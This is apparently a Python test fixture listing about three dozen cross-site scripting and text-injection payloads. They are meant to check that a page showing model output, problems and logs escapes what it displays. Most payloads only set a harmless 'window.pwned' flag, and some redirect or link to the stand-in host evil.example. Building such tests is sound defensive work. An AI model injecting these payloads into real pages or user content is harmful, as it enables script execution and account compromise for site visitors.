"""Texts that a model, a problem or a log could hold, each trying to become script, markup or another text.

Every one that runs sets `window.pwned`. They stand in problems, reasoning, code, tool output, answers, notes, models,
metric names, stages, events and ids.
"""

SET = "window.pwned=1"

ATTACKS = {
    "script tag": f"<script>{SET}</script>",
    "closing script": f"</script><script>{SET}</script>",
    "closing script in another case": f"</ScRiPt ><sCrIpT >{SET}</sCrIpT >",
    "comment and script": f"<!--<script>{SET}</script>-->",
    "image error": f"<img src=x onerror={SET}>",
    "quoted attribute": f'" onfocus="{SET}" autofocus tabindex=1 x="',
    "single-quoted attribute": f"' onmouseover='{SET}' x='",
    "javascript link": f"<a href=javascript:{SET}>x</a>",
    "javascript address": f"javascript:{SET}//",
    "data address": f"data:text/html,<script>opener.{SET}</script>",
    "svg onload": f"<svg/onload={SET}>",
    "svg script": f"<svg><script>{SET}</script></svg>",
    "svg animate": f"<svg><animate onbegin={SET} attributeName=x dur=1s>",
    "math": f"<math><mtext><table><mglyph><style><img src=x onerror={SET}>",
    "iframe": f"<iframe srcdoc='<script>parent.{SET}</script>'></iframe>",
    "object": f"<object data='data:text/html,<script>parent.{SET}</script>'></object>",
    "template": f"<template><script>{SET}</script></template>${{{SET}}}{{{{{SET}}}}}",
    "details": f"<details open ontoggle={SET}>x</details>",
    "marquee": f"<marquee onstart={SET}>x</marquee>",
    "style": f"<style>@import 'data:,x';*{{background:url(javascript:{SET})}}</style>",
    "css expression": f"x;}}*{{-x:expression({SET});background:url(//evil.example/x)}}",
    "base and meta": "<base href=//evil.example/><meta http-equiv=refresh content='0;url=//evil.example/'>",
    "entities": f"&lt;script&gt;{SET}&lt;/script&gt; &#60;img src=x onerror={SET}&#62;",
    "unicode escapes": f"\\u003cscript\\u003e{SET}\\u003c/script\\u003e",
    "json string end": f'"}}]}}; {SET}; ({{"x":["',
    "template literal": f"`;{SET};`${{{SET}}}",
    "cdata": f"<![CDATA[<script>{SET}</script>]]>",
    "null byte": f"<scr\x00ipt>{SET}</scr\x00ipt>",
    "prototype": "__proto__",
    "constructor": "constructor",
    "markdown": f"[x](javascript:{SET}) ![x](x onerror={SET})",
    "line separators": f"x\u2028{SET}\u2029",
    "bidirectional": "access \u202e\u2066// admin\u2069 \u2066 only\u2069",
    "ansi": "\x1b[2J\x1b[31mred\x1b]8;;http://evil.example\x07link\x1b]8;;\x07",
    "zero width and tags": "8\u200b0\u200d7\ufeff\U000e0041",
    "lone surrogate": "half \ud83d of a character",
}

UNSEEN = "\x00\x07\x1b\u200b\u200d\u2028\u2029\u202e\u2066\u2069\ufeff\U000e0041"
"""Characters of the attacks that must not reach the page as themselves."""
